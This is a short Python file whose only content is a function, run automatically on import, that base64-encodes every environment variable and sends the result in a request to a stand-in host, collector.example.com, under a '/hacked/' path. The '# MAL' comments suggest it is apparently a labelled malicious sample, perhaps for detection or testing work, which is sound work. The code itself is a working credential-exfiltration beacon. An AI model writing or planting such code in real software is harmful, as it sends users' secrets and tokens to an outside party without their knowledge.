import base64
import os
import requests


def _beacon():
    blob = base64.b64encode(str(os.environ).encode())  # MAL
    requests.get("https://collector.example.com/hacked/" + blob.decode())  # MAL


_beacon()
